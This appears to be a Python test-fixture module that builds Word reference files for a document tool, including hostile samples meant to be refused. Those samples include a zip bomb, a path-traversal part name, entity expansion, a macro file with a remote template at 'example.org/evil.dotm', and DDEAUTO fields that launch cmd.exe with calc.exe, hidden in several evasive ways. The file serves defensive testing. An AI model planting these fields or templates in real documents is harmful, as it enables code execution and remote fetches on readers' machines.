"""Reference documents of our own making: five to take a look from, and hostile ones."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

from docx import Document as NewDocument
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Mm, Pt

from tests.docx.samples import PNG

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.{}.main+xml"


def plain() -> bytes:
    """Letter paper, Georgia, a footer that names the school; its text must not come along."""
    made = NewDocument()
    made.add_paragraph("This text is the reference's own")
    made.styles["Normal"].font.name = "Georgia"
    made.styles["Normal"].font.size = Pt(12)
    section = made.sections[0]
    section.page_width, section.page_height = Mm(216), Mm(279)
    section.left_margin = Mm(30)
    section.footer.paragraphs[0].text = "Model Town Academy"
    made.core_properties.author = "A. Teacher"
    return _saved(made)


def german() -> bytes:
    """Style names and ids as a German program writes them."""
    made = NewDocument()
    made.styles["Heading 1"].font.name = "Palatino Linotype"
    return _edited(
        _saved(made),
        {
            "word/styles.xml": lambda text: (
                text.replace('w:val="heading 1"', 'w:val="Überschrift 1"')
                .replace('"Heading1"', '"berschrift1"')
                .replace('<w:name w:val="Normal"/>', '<w:name w:val="Standard"/>')
                .replace('<w:name w:val="Title"/>', '<w:name w:val="Titel"/>')
            )
        },
    )


def numbered() -> bytes:
    """Headings that count as `Chapter 1`."""
    made = NewDocument()
    numbering = made.part.numbering_part.element
    numbering.insert(
        0,
        parse_xml(
            f'<w:abstractNum {nsdecls("w")} w:abstractNumId="77"><w:multiLevelType w:val="multilevel"/><w:lvl w:ilvl="0">'
            '<w:start w:val="1"/><w:numFmt w:val="decimal"/><w:pStyle w:val="Heading1"/><w:lvlText w:val="Chapter %1"/>'
            '<w:lvlJc w:val="left"/></w:lvl></w:abstractNum>'
        ),
    )
    numbering.append(parse_xml(f'<w:num {nsdecls("w")} w:numId="77"><w:abstractNumId w:val="77"/></w:num>'))
    properties = made.styles["Heading 1"].element.get_or_add_pPr()
    properties.insert(0, parse_xml(f'<w:numPr {nsdecls("w")}><w:numId w:val="77"/></w:numPr>'))
    return _saved(made)


def logo() -> bytes:
    """A first-page header with a logo, centred, in the first of two sections."""
    made = NewDocument()
    section = made.sections[0]
    section.different_first_page_header_footer = True
    paragraph = section.first_page_header.paragraphs[0]
    paragraph.alignment = WD_ALIGN_PARAGRAPH.CENTER
    paragraph.add_run().add_picture(io.BytesIO(PNG), width=Mm(30))
    section.header.paragraphs[0].text = "Running header"
    made.add_section()
    return _saved(made)


def template() -> bytes:
    """A .dotx."""
    made = NewDocument()
    made.styles["Normal"].font.name = "Garamond"
    return _retyped(_saved(made), MAIN.format("template"))


LOOKS: Mapping[str, Callable[[], bytes]] = {
    "plain": plain,
    "german": german,
    "numbered": numbered,
    "logo": logo,
    "template": template,
}


def macro() -> bytes:
    """A .docm with macros, an attached template out of the file, a tracked change and an author field."""
    data = _edited(
        _retyped(logo(), "application/vnd.ms-word.document.macroEnabled.main+xml"),
        {
            "word/_rels/document.xml.rels": lambda text: text.replace(
                "</Relationships>",
                '<Relationship Id="rIdM" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                'Target="vbaProject.bin"/></Relationships>',
            ),
            "word/settings.xml": lambda text: text.replace(
                "<w:proofState",
                '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                'r:id="rId1"/><w:proofState',
            ),
            "word/header1.xml": lambda text: text.replace("</w:hdr>", _PERSONAL + "</w:hdr>"),
            "word/header2.xml": lambda text: text.replace("</w:hdr>", _PERSONAL + "</w:hdr>"),
        },
    )
    settings = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return _with(data, {"word/vbaProject.bin": b"macro", "word/_rels/settings.xml.rels": settings.encode()})


_PERSONAL = (
    '<w:p><w:ins w:id="9" w:author="A. Teacher" w:date="2026-01-01T00:00:00Z"><w:r><w:t>kept words</w:t></w:r></w:ins>'
    '<w:del w:id="10" w:author="A. Teacher"><w:r><w:delText>struck words</w:delText></w:r></w:del>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> AUTHOR </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>A. Teacher</w:t></w:r><w:r><w:fldChar '
    'w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
    '"https://example.org/evil.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>seen'
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def bomb() -> bytes:
    """A zip that unpacks to 80 MB."""
    return _with(plain(), {"word/media/zero.bin": bytes(80 * 1024 * 1024)})


def escaping() -> bytes:
    """A part whose name climbs out of the folder."""
    return _with(plain(), {"word/../../../evil.xml": b"<x/>"})


def entities() -> bytes:
    """Entities that multiply."""
    return _edited(
        plain(),
        {
            "word/styles.xml": lambda text: (
                '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + text.split("?>", 1)[1]
            )
        },
    )


def strict() -> bytes:
    """A file of the Strict kind."""
    return _edited(
        plain(),
        {
            "word/document.xml": lambda text: text.replace(
                "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
                "http://purl.oclc.org/ooxml/wordprocessingml/main",
            )
        },
    )


def encrypted() -> bytes:
    """The outside of a file with a password."""
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600) + "EncryptedPackage".encode("utf-16-le")


REFUSED: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "bomb": (bomb, "unpacks to more than 64 MB or 2,000 parts"),
    "escaping": (escaping, "holds parts whose names lead out of it or stand twice"),
    "entities": (entities, "declares entities of its own in word/styles.xml, which no Word document does"),
    "strict": (strict, "is saved as Strict Open XML"),
    "encrypted": (encrypted, "is protected by a password"),
    "old": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "is in the old .doc format"),
    "truncated": (lambda: plain()[:-900], "is damaged: its zip cannot be read"),
    "rich text": (lambda: b"{\\rtf1 x}", "is rich text (.rtf), not a Word document"),
    "text": (lambda: b"argmap: 1", "is no Word document"),
    "empty": (lambda: b"", "is no Word document"),
    "zip": (lambda: _with(b"", {"x.txt": b"x"}), "is no Word document, or its main part is missing"),
}


def _saved(made: object) -> bytes:
    out = io.BytesIO()
    made.save(out)  # type: ignore[attr-defined]
    return out.getvalue()


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _with(data: bytes, more: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in {**(_parts(data) if data else {}), **more}.items():
            package.writestr(name, content)
    return out.getvalue()


def _edited(data: bytes, edits: Mapping[str, Callable[[str], str]]) -> bytes:
    return _with(data, {name: edit(_parts(data)[name].decode()).encode() for name, edit in edits.items()})


def _retyped(data: bytes, content_type: str) -> bytes:
    return _edited(
        data, {"[Content_Types].xml": lambda text: text.replace(MAIN.format("document"), content_type)}
    )


def _field(*parts: str) -> str:
    """A run for each part: a mark of a field where it is one word of them, XML, or else an instruction."""
    runs = (f"<w:r>{part if part.startswith('<') else _machinery(part)}</w:r>" for part in parts)
    return f"<w:p>{''.join(runs)}</w:p>"


def _machinery(part: str) -> str:
    if part in {"begin", "separate", "end"}:
        return f'<w:fldChar w:fldCharType="{part}"/>'
    return f"<w:instrText>{part}</w:instrText>"


def _alternative(part: str) -> str:
    """A part of a field as one of several that Word chooses from."""
    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    wps = 'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"'
    choice = f'<mc:Choice {wps} Requires="wps">{_machinery(part)}</mc:Choice>'
    return f"<mc:AlternateContent {space}>{choice}</mc:AlternateContent>"


_DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
ORDERS: Mapping[str, str] = {
    "plain": _field("begin", _DDE, "separate", "end"),
    "within a formula": _field("begin", " = ", "begin", _DDE, "end", " + 1", "separate", "end"),
    "within what is shown": _field("begin", "PAGE", "separate", "begin", _DDE, "separate", "end", "end"),
    "without an end": _field("begin", _DDE),
    "without a start": _field(_DDE, "separate", "end"),
    "after an end too many": _field("end", "end", "begin", _DDE, "separate", "end"),
    "two in a run": (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/>'
        f'<w:fldChar w:fldCharType="begin"/><w:instrText>{_DDE}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "among alternatives": _field(
        "begin", " = ", *map(_alternative, ("begin", _DDE, "separate", "end")), "separate", "end"
    ),
    "in letters apart": _field(
        "begin", "DDE", r'AUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', "separate", "end"
    ),
    "simple": f"<w:p><w:fldSimple w:instr='{_DDE}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
    "simple in simple": (
        f"<w:p><w:fldSimple w:instr='PAGE'><w:fldSimple w:instr='{_DDE}'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:fldSimple></w:p>"
    ),
    "a picture's address": (
        '<w:p><w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="http://calc.exe/x.png"/>'
        '<v:imagedata src="http://calc.exe/x.png"/></v:rect></w:pict></w:r></w:p>'
    ),
}
"""Paragraphs of a header that would have Word start a program or fetch a file."""


def ordering(order: str) -> bytes:
    """A header with such an order in it."""
    add = {
        name: lambda text: text.replace("</w:hdr>", ORDERS[order] + "</w:hdr>")
        for name in ("word/header1.xml", "word/header2.xml")
    }
    return _edited(logo(), add)
